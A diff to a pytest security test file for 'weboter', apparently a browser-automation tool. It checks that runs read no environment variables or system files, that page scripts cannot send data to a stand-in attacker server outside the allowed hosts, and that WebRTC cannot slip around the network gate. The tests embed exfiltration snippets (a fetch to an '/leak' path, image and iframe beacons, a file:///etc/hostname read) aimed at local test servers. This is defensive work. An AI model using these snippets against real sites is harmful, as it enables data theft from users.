@@ -9,6 +9,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import socket
 import sys
 from pathlib import Path
 from typing import Any
@@ -17,9 +18,13 @@ import pytest
 from mcp import Client, StdioServerParameters
 
 from tests.browser.conftest import chain
-from tests.conftest import node, wait_for, weboter
+from tests.conftest import flow, node, wait_for, weboter
 from tests.recording_server import RecordingServer
 from tests.ui.conftest import get, launch, post, shutdown
+from weboter.runtime.engine.engine import Engine
+from weboter.runtime.engine.settings import Settings
+from weboter.runtime.store.eventlog import EventLog
+from weboter.runtime.store.projection import state_at
 
 pytestmark = pytest.mark.timeout(180)
 
@@ -28,6 +33,21 @@ READ_ENV = chain(
     node("read", "SetData", inputs={"key": "$global{home}", "value": "$env{WEBOTER_PROBE}"})
 )
 READ_FILE = chain(node("read", "OpenPage", inputs={"url": "file:///etc/hostname"}))
+# a node that fails, whose control would tell (by where a skip goes) what the variable holds
+ORACLE = flow(
+    node(
+        "fail",
+        "PyEvalAction",
+        "IfElse",
+        inputs={"expr": "1 / 0"},
+        params={
+            "var": "$env{WEBOTER_PROBE}",
+            "value": PROBE,
+            "then_node": "__end__",
+            "else_node": "__end__",
+        },
+    )
+)
 
 
 def test_a_run_started_through_the_ui_reads_no_env_and_no_file(tmp_path: Path) -> None:
@@ -68,13 +88,19 @@ def test_a_run_started_through_mcp_reads_no_env_and_no_file(tmp_path: Path) -> N
     async def runs() -> list[dict[str, Any]]:
         async with Client(params) as client:
             found = []
-            for workflow in (READ_ENV, READ_FILE):
+            for workflow in (READ_ENV, READ_FILE, ORACLE):
                 result = await client.call_tool("run_workflow", {"workflow": workflow})
                 assert not result.is_error, result.content
                 found.append(result.structured_content or {})
+            # a skip decides with the failed node's control: it too reads no environment
+            skip = {"run_id": found[-1]["run_id"], "kind": "skip"}
+            skipped = await client.call_tool("repair_run", skip)
+            found.append({"error": skipped.is_error, "said": str(skipped.content)})
             return found
 
-    env, file = asyncio.run(runs())
+    env, file, oracle, skipped = asyncio.run(runs())
+    assert oracle["status"] == "ERROR"
+    assert skipped["error"] and "$env{WEBOTER_PROBE} is not set" in skipped["said"]
     assert env["status"] == "ERROR" and env["error"]["message"].endswith(
         "$env{WEBOTER_PROBE} is not set in `weboter mcp`"
     )
@@ -105,7 +131,7 @@ const tries = [
   new Promise((done) => {{ const i = new Image(); i.onload = i.onerror = done;
     i.src = "{attacker}/image"; }}),
   new Promise((done) => {{ const f = document.createElement("iframe"); f.onload = done;
-    f.src = "{attacker}/frame"; document.body.append(f); setTimeout(done, 3000); }}),
+    f.src = "{attacker}/frame"; document.body.append(f); }}),
 ];
 Promise.all(tries).then(() => {{ document.getElementById("done").textContent = "tried"; }});
 </script>"""
@@ -158,3 +184,68 @@ def test_a_workflow_s_allow_hosts_narrows_it_and_is_checked(tmp_path: Path) -> N
     path.write_text(json.dumps(workflow))
     checked = weboter("validate", str(path), home=tmp_path)
     assert checked.returncode == 2 and "allow_hosts[0]" in checked.stdout + checked.stderr
+
+
+def test_a_look_at_the_page_holds_to_the_workflow_s_hosts(tmp_path: Path) -> None:
+    """The page is put back for a look (MCP, the UI, a model) before any node of this process
+    ran: its scripts reach only the workflow's allow_hosts there too, and the nodes after it
+    do not inherit a browser made under no rule."""
+    with RecordingServer() as attacker, RecordingServer() as site:
+        site.page = f"<p>hi</p><script>fetch('{attacker.url}/leak').catch(() => null)</script>"
+        workflow = chain(
+            node("open", "OpenPage", inputs={"url": f"{site.url}/"}),
+            node("again", "Reload"),
+        )
+        workflow["allow_hosts"] = [site.url.removeprefix("http://")]
+        path = tmp_path / "look.json"
+        path.write_text(json.dumps(workflow))
+        paused = json.loads(
+            weboter("run", str(path), "--break", "again", "--json", home=tmp_path).stdout
+        )
+        assert paused["status"] == "PAUSED", paused
+        db = tmp_path / "weboter.db"
+        with Engine(Settings(db_path=db)) as engine, engine.client() as client:
+            log = EventLog(db)
+            try:
+                recorded = state_at(log, paused["run_id"]).browser
+            finally:
+                log.close()
+            looked = client.look(paused["run_id"], recorded)
+            assert looked.error is None and "hi" in looked.aria
+            client.cont(paused["run_id"])
+            assert client.wait(paused["run_id"], timeout=60).status == "COMPLETED"
+        served = list(site.paths)
+    assert attacker.paths == []
+    assert served.count("/") >= 3  # the run's page, the look's, the reload's
+
+
+def test_webrtc_goes_nowhere_around_the_gate(tmp_path: Path) -> None:
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    stun = f"stun:127.0.0.1:{udp.getsockname()[1]}"
+    page = f"""<p id="done">no</p><script>
+const pc = new RTCPeerConnection({{iceServers: [{{urls: "{stun}"}}]}});
+pc.createDataChannel("x");
+pc.onicegatheringstatechange = () => {{
+  if (pc.iceGatheringState === "complete") document.getElementById("done").textContent = "gathered";
+}};
+pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+</script>"""
+    try:
+        with RecordingServer(page) as site:
+            path = tmp_path / "rtc.json"
+            path.write_text(
+                json.dumps(
+                    chain(
+                        node("open", "OpenPage", inputs={"url": f"{site.url}/"}),
+                        node("wait", "AssertText", inputs={"locator": "#done", "text": "gathered"}),
+                    )
+                )
+            )
+            ran = json.loads(weboter("run", str(path), "--json", home=tmp_path).stdout)
+        assert ran["status"] == "COMPLETED", ran  # gathering ended, without a STUN exchange
+        with pytest.raises(BlockingIOError):
+            udp.recvfrom(2048)  # nothing ever reached the STUN server
+    finally:
+        udp.close()
